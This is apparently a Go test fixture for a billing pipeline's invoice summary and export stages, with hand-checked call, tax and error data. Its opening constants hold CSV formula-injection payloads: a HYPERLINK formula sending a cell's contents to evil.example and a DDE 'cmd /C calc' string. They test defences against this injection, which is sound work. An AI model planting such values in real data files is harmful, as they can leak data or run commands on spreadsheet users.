package pipeline

import (
	"context"
	"testing"
)

// Hostile text used in names and descriptions: each would run as a formula in a spreadsheet.
const (
	hostileName1 = `=HYPERLINK("http://evil.example/?x="&A1,"Beta")`
	hostileName2 = "\tCharlie +cmd|' /C calc'!A0"
	hostileDesc1 = "@SUM(A1:A9) data usage"
	hostileDesc2 = "-2+3 fax"
)

// createInvoiceInputs creates the tables the summary and export stages read, with TABLES.md's
// columns, and a small hand-checked data set for period 2025-10:
//
//	ACME (101, agreement 9001, default mode): VOICE-OUT 0.7167+0.0125+0.0125+1.0000 = 1.7417 → 1.74,
//	  DATA 0.3000 → 0.30, VOICE-INTL (no products.csv row) 2.5050 → 2.51 on the fallback SKU;
//	  tax FL-CST 0.34, E911 0.40, USF 0.00 (exempt). Total 5.29.
//	BETA (102, no agreement, detail mode, hostile name): VOICE-OUT 0.333+0.333+0.334 = 1.00,
//	  FAX (empty catalog_identifier) 0.2 → 0.20 on the fallback SKU; tax E911 0.40. Total 1.60.
//	CHARLIE (103, agreement 9003, hostile name): VOICE-OUT 5.00, E911 0.40, and one unrated CDR:
//	  held back by default.
//	Account ghost: 2 CDRs with no customer (unmapped_account). One rejected row in pbx1/b.csv.
func createInvoiceInputs(t *testing.T, r *Run) {
	t.Helper()
	mustExec(t, r, `CREATE TABLE rated_usage (cdr_id VARCHAR, account VARCHAR, company_id BIGINT,
		company_identifier VARCHAR, company_name VARCHAR, agreement_id BIGINT, jurisdiction VARCHAR,
		invoice_mode VARCHAR, usage_date DATE, start_utc TIMESTAMP, direction VARCHAR, origin VARCHAR,
		destination VARCHAR, usage_type VARCHAR, plan VARCHAR, product VARCHAR, matched_prefix VARCHAR,
		time_band VARCHAR, duration BIGINT, quantity BIGINT, billed_quantity BIGINT,
		amount DECIMAL(18,6), amount_decimals INTEGER, source_file VARCHAR, source_line BIGINT)`)
	mustExec(t, r, `CREATE TABLE tax_lines (company_id BIGINT, company_identifier VARCHAR,
		jurisdiction VARCHAR, tax_code VARCHAR, tax_name VARCHAR, level VARCHAR,
		taxable_base DECIMAL(18,2), tax_amount DECIMAL(18,2), catalog_identifier VARCHAR, note VARCHAR)`)
	mustExec(t, r, `CREATE TABLE rating_errors (kind VARCHAR, cdr_id VARCHAR, account VARCHAR,
		key VARCHAR, detail VARCHAR, source_file VARCHAR, source_line BIGINT)`)
	mustExec(t, r, `CREATE TABLE ingest_rejects (source VARCHAR, source_file VARCHAR,
		source_line BIGINT, column_name VARCHAR, reason VARCHAR, raw VARCHAR)`)

	mustExec(t, r, `INSERT INTO ref_products VALUES
		('VOICE-OUT', 'CW-VOICE-OUT', 'Outbound voice usage', true, 'voip', '4000', 'products.csv', 2),
		('DATA', 'CW-DATA', ?, false, 'data', '4010', 'products.csv', 3),
		('FAX', '', ?, true, 'voip', '4020', 'products.csv', 4),
		('FL-CST', 'TAX-CST', 'Florida CST', false, 'tax', '2200', 'products.csv', 5)`, hostileDesc1, hostileDesc2)
	mustExec(t, r, `INSERT INTO ref_customers VALUES
		('acme1', 101, 'ACME', 'Acme Corp', 9001, 'std', 'US-FL-MIAMI', 2, [], NULL, '2025-01-01', NULL, 'customers.csv', 2),
		('beta1', 102, 'BETA', ?, NULL, 'std', 'US-FL', 1, [], 'detail', '2025-01-01', NULL, 'customers.csv', 3),
		('charlie1', 103, 'CHARLIE', ?, 9003, 'std', 'US-FL', 1, [], NULL, '2025-01-01', NULL, 'customers.csv', 4)`,
		hostileName1, hostileName2)

	type cdr struct {
		id, account string
		company     int64
		ident, name string
		agreement   any
		mode        any
		start       string
		usageType   string
		product     string
		billed      int64
		amount      string
		decimals    int
		file        string
		line        int
	}
	cdrs := []cdr{
		{"c01", "acme1", 101, "ACME", "Acme Corp", 9001, nil, "2025-10-02 14:00:00", "voice", "VOICE-OUT", 130, "0.7167", 4, "pbx1/a.csv", 2},
		{"c02", "acme1", 101, "ACME", "Acme Corp", 9001, nil, "2025-10-03 14:00:00", "voice", "VOICE-OUT", 60, "0.0125", 4, "pbx1/a.csv", 3},
		{"c03", "acme1", 101, "ACME", "Acme Corp", 9001, nil, "2025-10-04 14:00:00", "voice", "VOICE-OUT", 60, "0.0125", 4, "pbx1/a.csv", 4},
		{"c04", "acme1", 101, "ACME", "Acme Corp", 9001, nil, "2025-10-05 14:00:00", "voice", "VOICE-OUT", 74010, "1.0000", 4, "pbx1/a.csv", 5},
		{"c05", "acme1", 101, "ACME", "Acme Corp", 9001, nil, "2025-10-06 14:00:00", "data", "DATA", 1500000, "0.3000", 4, "data/d.csv", 2},
		{"c06", "acme1", 101, "ACME", "Acme Corp", 9001, nil, "2025-10-07 14:00:00", "voice", "VOICE-INTL", 90, "2.5050", 4, "pbx1/a.csv", 6},
		{"b01", "beta1", 102, "BETA", hostileName1, nil, "detail", "2025-10-08 14:00:00", "voice", "VOICE-OUT", 60, "0.333", 3, "pbx1/a.csv", 8},
		{"b02", "beta1", 102, "BETA", hostileName1, nil, "detail", "2025-10-09 14:00:00", "voice", "VOICE-OUT", 60, "0.333", 3, "pbx1/a.csv", 11},
		{"b03", "beta1", 102, "BETA", hostileName1, nil, "detail", "2025-10-10 14:00:00", "voice", "VOICE-OUT", 61, "0.334", 3, "pbx1/a.csv", 12},
		{"b04", "beta1", 102, "BETA", hostileName1, nil, "detail", "2025-10-11 14:00:00", "voice", "FAX", 120, "0.2", 1, "pbx1/a.csv", 13},
		{"x01", "charlie1", 103, "CHARLIE", hostileName2, 9003, nil, "2025-10-12 14:00:00", "voice", "VOICE-OUT", 600, "5.00", 2, "pbx1/c.csv", 2},
	}
	for _, c := range cdrs {
		mustExec(t, r, `INSERT INTO rated_usage VALUES (?, ?, ?, ?, ?, ?, 'US-FL', ?, CAST(? AS TIMESTAMP)::DATE,
			CAST(? AS TIMESTAMP), 'outbound', '+13055550100', '+13055550123', ?, 'std', ?, '+1305', '', ?, ?, ?,
			CAST(? AS DECIMAL(18,6)), ?, ?, ?)`,
			c.id, c.account, c.company, c.ident, c.name, c.agreement, c.mode, c.start, c.start, c.usageType,
			c.product, c.billed, c.billed, c.billed, c.amount, c.decimals, c.file, c.line)
	}
	mustExec(t, r, `INSERT INTO tax_lines VALUES
		(101, 'ACME', 'US-FL-MIAMI', 'FL-CST', 'Florida communications services tax', 'state', 4.55, 0.34, 'TAX-CST', ''),
		(101, 'ACME', 'US-FL-MIAMI', 'E911', 'E911 fee', 'county', 0.00, 0.40, 'TAX-E911', ''),
		(101, 'ACME', 'US', 'USF', 'Federal USF recovery', 'federal', 0.00, 0.00, 'TAX-USF', 'exempt: reseller'),
		(102, 'BETA', 'US-FL', 'E911', 'E911 fee', 'county', 0.00, 0.40, 'TAX-E911', ''),
		(103, 'CHARLIE', 'US-FL', 'E911', 'E911 fee', 'county', 0.00, 0.40, 'TAX-E911', '')`)
	mustExec(t, r, `INSERT INTO rating_errors VALUES
		('unrated', 'x02', 'charlie1', '+4420555501', 'no rate for destination', 'pbx1/c.csv', 3),
		('unmapped_account', 'g01', 'ghost', 'ghost', 'account not in customers.csv', 'pbx1/a.csv', 9),
		('unmapped_account', 'g02', 'ghost', 'ghost', 'account not in customers.csv', 'pbx1/a.csv', 10)`)
	mustExec(t, r, `INSERT INTO ingest_rejects VALUES
		('pbx1', 'pbx1/b.csv', 3, 'start', 'bad timestamp "2025-13-01"', 'acme1,+13055550100,...')`)
}

// runInvoiceStages runs summary then export (the tax stage's output is already in tax_lines).
func runInvoiceStages(t *testing.T, r *Run, export ExportStage) {
	t.Helper()
	ctx := context.Background()
	if err := r.SetVariables(ctx); err != nil {
		t.Fatal(err)
	}
	if err := (SummaryStage{}).Run(ctx, r); err != nil {
		t.Fatalf("summarize: %v", err)
	}
	if err := export.Run(ctx, r); err != nil {
		t.Fatalf("export: %v", err)
	}
}
